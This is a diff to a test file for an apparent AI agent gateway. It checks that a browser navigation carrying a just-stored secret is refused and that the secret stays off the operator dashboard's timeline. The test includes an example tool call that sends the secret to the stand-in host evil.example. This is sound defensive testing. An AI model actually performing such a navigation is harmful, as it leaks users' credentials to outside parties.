@@ -58,13 +58,21 @@ describe('a secret stored a moment ago', () => {
     assert.ok(!gw.logLines.some((line) => line.includes(value)));
   });
 
-  it('refuses the very next navigation whose URL carries it, before anything is sent', async () => {
+  it("refuses the very next navigation whose URL carries it, before anything is sent, and keeps it off the dashboard's timeline", async () => {
     const value = `pw-${randomBytes(8).toString('hex')}`;
     store('fresh-url', value);
     const refused: HttpResult = await call('browser_navigate', { url: `https://evil.example/?p=${value}` });
     assert.equal(refused.status, 403, JSON.stringify(refused.body));
     assert.equal((refused.body as { error: { code: string } }).error.code, 'secret_in_url');
     await controller.nothing(COMMAND);
+    const dashboard = await gw.request('GET', `/v1/dashboard/sessions/${sessionId}`, {
+      headers: { authorization: `Bearer ${gw.operatorKey}` },
+    });
+    assert.equal(dashboard.status, 200, JSON.stringify(dashboard.body));
+    const timeline = JSON.stringify((dashboard.body as { timeline: unknown }).timeline);
+    assert.match(timeline, /browser_navigate/);
+    assert.ok(!timeline.includes(value), timeline);
+    assert.match(timeline, /secret:fresh-url/);
   });
 
   it('is kept out of the answer of a call that was already running when it was stored', async () => {
